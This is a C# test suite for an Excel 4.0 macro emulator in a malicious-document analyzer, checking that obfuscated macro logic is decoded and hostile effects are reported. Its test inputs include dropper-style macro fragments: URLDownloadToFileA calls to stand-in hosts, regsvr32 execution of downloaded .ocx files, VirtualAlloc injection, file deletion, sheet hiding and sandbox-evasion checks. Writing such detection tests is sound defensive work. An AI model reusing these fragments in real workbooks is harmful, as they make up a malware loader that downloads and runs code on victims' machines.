using Postvakt.Documents.Report;
using Postvakt.Documents.Tests.Building;

namespace Postvakt.Documents.Tests.Excel;

/// <summary>What each function and each way of going on does, seen by the command that comes out in the end.</summary>
public sealed class InterpreterTests
{
    private static InspectedFile Macro(params string[] formulas) => Look.At("m.xlsm", WorkbookPackage.Xml(BookPlan.Of(formulas)));

    private static IEnumerable<string> Commands(InspectedFile file) => file.Effects.Where(e => e.Kind == EffectKind.Execute).Select(e => e.Target);

    [Theory]
    [InlineData("CHAR(99)&CHAR(109)&\"d\"", "cmd")]
    [InlineData("MID(\"xxcmdxx\",3,3)", "cmd")]
    [InlineData("LEFT(\"cmdxx\",3)&RIGHT(\"xx.exe\",4)", "cmd.exe")]
    [InlineData("CONCATENATE(\"c\",\"m\",\"d\")", "cmd")]
    [InlineData("SUBSTITUTE(\"cQmQd\",\"Q\",\"\")", "cmd")]
    [InlineData("SUBSTITUTE(\"aQbQc\",\"Q\",\"-\",2)", "aQb-c")]
    [InlineData("REPLACE(\"cXXd\",2,2,\"m\")", "cmd")]
    [InlineData("REPT(\"ab\",3)", "ababab")]
    [InlineData("TRIM(\"  a   b \")", "a b")]
    [InlineData("LOWER(\"CMD\")&UPPER(\"x\")&PROPER(\"abc def\")", "cmdXAbc Def")]
    [InlineData("CHAR(CODE(\"A\")+1)", "B")]
    [InlineData("UNICHAR(99)&T(\"m\")&N(4)", "cm4")]
    [InlineData("TEXT(7,\"000\")&TEXT(1234.5,\"0.00\")", "0071234.50")]
    [InlineData("FIXED(1234.567,1,TRUE)", "1234.6")]
    [InlineData("VALUE(\"12\")*2", "24")]
    [InlineData("LEN(\"abcd\")&FIND(\"c\",\"abcd\")&SEARCH(\"C\",\"abcd\")", "433")]
    [InlineData("IF(EXACT(\"a\",\"A\"),\"yes\",\"no\")", "no")]
    [InlineData("IF(\"a\"=\"A\",\"yes\",\"no\")", "yes")]
    [InlineData("MOD(7,3)&INT(7.9)&ROUND(2.5,0)&ABS(-4)&MAX(1,9)&MIN(3,2)", "173492")]
    [InlineData("SUM(1,2,3)&COUNTA(1,2)&PRODUCT(2,5)", "6210")]
    [InlineData("CHOOSE(2,\"a\",\"b\")", "b")]
    [InlineData("INDEX({\"a\",\"b\";\"c\",\"d\"},2,1)", "c")]
    [InlineData("ADDRESS(3,2)", "$B$3")]
    [InlineData("IF(AND(TRUE,NOT(FALSE)),\"a\",\"b\")&IF(OR(FALSE,FALSE),\"a\",\"b\")", "ab")]
    [InlineData("IF(ISERROR(1/0),\"bad\",\"good\")&IF(ISNUMBER(\"a\"),1,0)", "bad0")]
    [InlineData("DAY(44481)&\".\"&MONTH(44481)&\".\"&YEAR(44481)", "12.10.2021")]
    [InlineData("TEXT(44481,\"yyyy-mm-dd\")", "2021-10-12")]
    [InlineData("2^3&\"|\"&-2^2&\"|\"&50%", "8|4|0.5")]
    [InlineData("EVALUATE(\"1+2\")", "3")]
    [InlineData("\"a\"\"b\"", "a\"b")]
    [InlineData("HEX2DEC(\"1F\")&DEC2HEX(255)&BITXOR(12,10)", "31FF6")]
    [InlineData("CLEAN(\"a\"&CHAR(10)&\"b\")", "ab")]
    public void Function_OfConstants_GivesItsValue(string formula, string expected) => Assert.Equal([expected], Commands(Macro($"=EXEC({formula})", "=HALT()")));

    [Fact]
    public void Goto_ElsewhereOnTheSheet_GoesOnThere()
    {
        var plan = BookPlan.Of("=GOTO(D5)", "=EXEC(\"never\")", "=HALT()");
        plan.Sheets[0].Put("D5", "=EXEC(\"there\")").Put("D6", "=HALT()");
        Assert.Equal(["there", "never"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void Run_OfAnotherPlace_ComesBack()
    {
        var plan = BookPlan.Of("=RUN(D5)", "=EXEC(\"second\")", "=HALT()");
        plan.Sheets[0].Put("D5", "=EXEC(\"first\")").Put("D6", "=RETURN()");
        Assert.Equal(["first", "second"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void Run_OfANameAsText_IsFollowed()
    {
        var plan = BookPlan.Of("=RUN(\"Sub\"&\"Way\")", "=HALT()");
        plan.Sheets[0].Put("C1", "=EXEC(\"x\")").Put("C2", "=RETURN()");
        plan.Name("SubWay", "M!C1");
        Assert.Equal(["x"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void UserFunction_WithArguments_ReturnsItsValue()
    {
        var plan = BookPlan.Of("=EXEC(Join(\"c\",\"md\"))", "=HALT()");
        plan.Sheets[0].Put("C1", "=ARGUMENT(\"a\")").Put("C2", "=ARGUMENT(\"b\")").Put("C3", "=RETURN(a&b)");
        plan.Name("Join", "M!C1");
        Assert.Equal(["cmd"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void Block_OfIfAndElse_TakesTheRightOne() =>
        Assert.Equal(["b"], Commands(Macro("=SET.NAME(\"x\",2)", "=IF(x=1)", "=EXEC(\"a\")", "=ELSE.IF(x=2)", "=EXEC(\"b\")", "=ELSE()", "=EXEC(\"c\")", "=END.IF()", "=HALT()")).Take(1));

    [Fact]
    public void For_WithACounter_GoesThroughItsTurns() =>
        Assert.Equal(["123"], Commands(Macro("=SET.NAME(\"t\",\"\")", "=FOR(\"i\",1,3)", "=SET.NAME(\"t\",t&i)", "=NEXT()", "=EXEC(t)", "=HALT()")));

    [Fact]
    public void While_UntilItsConditionEnds_Leaves() =>
        Assert.Equal(["xxxx"], Commands(Macro("=SET.NAME(\"t\",\"x\")", "=WHILE(LEN(t)<4)", "=SET.NAME(\"t\",t&\"x\")", "=NEXT()", "=EXEC(t)", "=HALT()")));

    [Fact]
    public void ForCell_OverCells_DecodesThem()
    {
        var plan = BookPlan.Of("=SET.NAME(\"t\",\"\")", "=FOR.CELL(\"c\",D1:D3,FALSE)", "=SET.NAME(\"t\",t&CHAR(c+1))", "=NEXT()", "=EXEC(t)", "=HALT()");
        plan.Sheets[0].Put("D1", "98").Put("D2", "108").Put("D3", "99");
        Assert.Equal(["cmd"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void Break_WithinALoop_LeavesIt() =>
        Assert.Equal(["1"], Commands(Macro("=FOR(\"i\",1,9)", "=SET.NAME(\"t\",i)", "=BREAK()", "=NEXT()", "=EXEC(t)", "=HALT()")));

    [Fact]
    public void Formula_ThatIsWritten_RunsWhenItIsReached() =>
        Assert.Equal(["later"], Commands(Macro("=FORMULA(\"=EXEC(\"\"la\"\"&R1C3)\",R5C1)", "=SET.VALUE(C1,\"ter\")", "=GOTO(A5)")));

    [Fact]
    public void Formula_ThatIsWritten_IsNamed()
    {
        var effect = Assert.Single(Macro("=FORMULA.FILL(\"=EXEC(\"\"x\"\")\",C7)", "=HALT()").Effects, e => e.Kind == EffectKind.WriteCode);
        Assert.Equal(("=EXEC(\"x\")", "macro sheet \"M\" C7"), (effect.Target, effect.Other));
    }

    [Fact]
    public void References_MadeAtRunTime_LeadToTheirCells()
    {
        var plan = BookPlan.Of("=EXEC(INDIRECT(\"D\"&1)&OFFSET(D1,1,0)&INDEX(D1:D3,3)&VLOOKUP(\"k\",F1:G2,2,FALSE))", "=HALT()");
        plan.Sheets[0].Put("D1", "a").Put("D2", "b").Put("D3", "c").Put("F1", "j").Put("G1", "x").Put("F2", "k").Put("G2", "d");
        Assert.Equal(["abcd"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void Question_OfTheMachine_IsFollowedBothWays() =>
        Assert.Equal(["bare", "real"], Commands(Macro("=IF(GET.WORKSPACE(42),GOTO(A4),)", "=EXEC(\"bare\")", "=HALT()", "=EXEC(\"real\")", "=HALT()")).Order());

    [Fact]
    public void Question_ThatClosesTheWorkbook_DoesNotEndTheReading() =>
        Assert.Equal(["run"], Commands(Macro("=IF(GET.WORKSPACE(31),CLOSE(FALSE),)", "=IF(ISNUMBER(SEARCH(\"Windows\",GET.WORKSPACE(1))),,CLOSE(TRUE))", "=EXEC(\"run\")", "=HALT()")));

    [Fact]
    public void Host_ChosenByChance_GivesAllHosts()
    {
        var file = Macro("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,CHOOSE(RANDBETWEEN(1,3),\"https://a.example/\",\"https://b.example/\",\"https://c.example/\"),\"x.ocx\",0,0)", "=HALT()");
        Assert.Equal(["https://a.example/", "https://b.example/", "https://c.example/"], file.Urls().Order());
    }

    [Fact]
    public void SecondHost_AskedWhenTheFirstFails_IsFound()
    {
        var file = Macro("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://a.example/\",\"x\",0,0)", "=IF(A1<>0,CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://b.example/\",\"x\",0,0),)", "=HALT()");
        Assert.Equal(["https://a.example/", "https://b.example/"], file.Urls().Order());
    }

    [Theory]
    [InlineData("CALL(\"Shell32\",\"ShellExecuteA\",\"JJCCCJJ\",0,\"open\",\"regsvr32\",\"-s x.ocx\",0,0)", EffectKind.Execute, "regsvr32 -s x.ocx")]
    [InlineData("CALL(\"kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)", EffectKind.Execute, "calc")]
    [InlineData("CALL(\"KERNEL32\",\"CreateDirectoryA\",\"JCJ\",\"C:\\Jambo\",0)", EffectKind.CreateFolder, @"C:\Jambo")]
    [InlineData("CALL(\"wininet\",\"InternetOpenUrlA\",\"JJCCJJJ\",1,\"https://a.example/p\",\"\",0,0,0)", EffectKind.Download, "https://a.example/p")]
    [InlineData("CALL(\"Kernel32\",\"VirtualAlloc\",\"JJJJJ\",0,4096,4096,64)", EffectKind.Inject, "kernel32!VirtualAlloc")]
    [InlineData("CALL(\"C:\\Datop\\besta.ocx\",\"DllRegisterServer\",\"J\")", EffectKind.CallLibrary, @"C:\Datop\besta.ocx!DllRegisterServer")]
    [InlineData("FILE.DELETE(\"C:\\a\"&\".txt\")", EffectKind.DeleteFile, @"C:\a.txt")]
    [InlineData("WORKBOOK.HIDE(\"M\",TRUE)", EffectKind.Hide, "M")]
    [InlineData("FWRITELN(FOPEN(\"C:\\x.vbs\",3),\"hello\")", EffectKind.WriteFile, @"C:\x.vbs")]
    public void Call_OfALibrary_IsTold(string call, EffectKind kind, string target)
    {
        var effect = Macro("=" + call, "=HALT()").Effects.First(e => e.Kind == kind);
        Assert.Equal(target, effect.Target);
    }

    [Fact]
    public void Register_ByItsNumber_IsCalled()
    {
        var file = Macro("=REGISTER(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\")", "=CALL(A1,0,\"https://a.example/\",\"x.ocx\",0,0)", "=HALT()");
        Assert.Equal(["https://a.example/"], file.Urls());
    }

    [Fact]
    public void Call_ThatNoRunComesTo_IsToldAllTheSame()
    {
        var plan = BookPlan.Of("=HALT()");
        plan.Sheets[0].Put("Z9", "=EXEC(\"aside\")");
        Assert.Equal(["aside"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void Macro_WithoutAStarter_IsFollowedFromItsFirstCells()
    {
        var plan = new BookPlan();
        plan.Macros("M").Put("B2", "=SET.NAME(\"t\",\"cmd\")").Put("B3", "=EXEC(t)").Put("B4", "=HALT()");
        Assert.Equal(["cmd"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void OnTime_PutsTheMacroOff_AndItIsFollowed()
    {
        var plan = BookPlan.Of("=ON.TIME(NOW()+\"00:00:02\",\"Later\")", "=HALT()");
        plan.Sheets[0].Put("C1", "=EXEC(\"x\")").Put("C2", "=HALT()");
        plan.Name("Later", "M!C1");
        Assert.Equal(["x"], Commands(Look.At("m.xlsm", WorkbookPackage.Xml(plan))));
    }

    [Fact]
    public void Loop_WithoutEnd_IsBrokenOffAndKeepsWhatCameBefore()
    {
        var file = Macro("=EXEC(\"before\")", "=GOTO(A2)");
        Assert.Equal(["before"], Commands(file));
        Assert.True(file.Has(FindingKinds.AnalysisIncomplete));
    }

    [Theory]
    [InlineData("=WHILE(TRUE)", "=NEXT()")]
    [InlineData("=RUN(A1)", "=RUN(A2)")]
    [InlineData("=SET.NAME(\"t\",REPT(\"x\",32000))", "=GOTO(A1)")]
    [InlineData("=FORMULA(\"=RUN(R1C1)\",A1:Z90)", "=RUN(A1)")]
    [InlineData("=A2", "=A1")]
    public void Macro_ThatWouldRunForEver_EndsWithoutAMistake(params string[] formulas) => Assert.NotEmpty(Macro(formulas).Modules);

    [Fact]
    public void Loops_InManyPlaces_LeaveStepsForWhatIsReadAfterThem()
    {
        var plan = new BookPlan();
        var sheet = plan.Macros("M");
        for (var i = 0; i < 50; i++) sheet.Put($"{(char)('A' + i / 2)}{i % 2 * 9 + 1}", $"=GOTO({(char)('A' + i / 2)}{i % 2 * 9 + 1})");
        for (var i = 0; i < 50; i++) plan.Name("Auto_Open" + i, $"M!{(char)('A' + i / 2)}{i % 2 * 9 + 1}");
        Assert.DoesNotContain(Look.At("m.xlsm", WorkbookPackage.Xml(plan)).Findings, f => f.Text.Contains("steps", StringComparison.Ordinal));
    }

    [Fact]
    public void Unknown_PieceOfAnAddress_LeavesAGap()
    {
        var file = Macro("=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"https://a.example/\"&UNKNOWN.THING(1)&\".dat\",\"x\",0,0)", "=HALT()");
        Assert.Equal(["https://a.example/{?}.dat"], file.Urls());
    }

    [Fact]
    public void Thousand_CommandsBeforeTheDownload_DoNotHideIt()
    {
        var formulas = Enumerable.Range(0, 400).Select(i => $"=FORMULA(\"={i}+1\",Z{i + 1})").Append("=EXEC(\"end\")").Append("=HALT()").ToArray();
        Assert.Contains("end", Commands(Macro(formulas)));
    }

    [Theory]
    [InlineData("xls")]
    [InlineData("xlsb")]
    public void Tokens_OfBothForms_GiveTheFormulaBack(string form)
    {
        var plan = BookPlan.Of("=IF(AND(B1>=2,NOT(B2<>\"x\")),SUM(B1:C9)*-1,RUN(M!D4))", "=HALT()");
        Assert.StartsWith("A1: =IF(AND(B1>=2,NOT(B2<>\"x\")),SUM(B1:C9)*-1,RUN(M!D4))\nA2: =HALT()\n", Look.At("m." + form, DropperTests.Form(form, plan)).Modules[0].Source, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("SET.NAME")]
    [InlineData("DEFINE.NAME")]
    [InlineData("FOR.CELL")]
    [InlineData("FORMULA")]
    [InlineData("GOTO")]
    public void Function_WithoutItsArguments_IsNoMistakeOfOurs(string function)
    {
        var inspection = new Postvakt.Documents.Inspecting.Inspection(Patient.Options);
        Postvakt.Documents.Inspecting.DocumentInspector.Inspect("a.slk", System.Text.Encoding.ASCII.GetBytes($"ID;P\nO;E\nNN;NAuto_open;ER1C1\nC;X1;Y1;E{function}()\nC;Y2;EHALT()\nE\n"), inspection);
        Assert.Empty(inspection.Mistakes);
    }
}
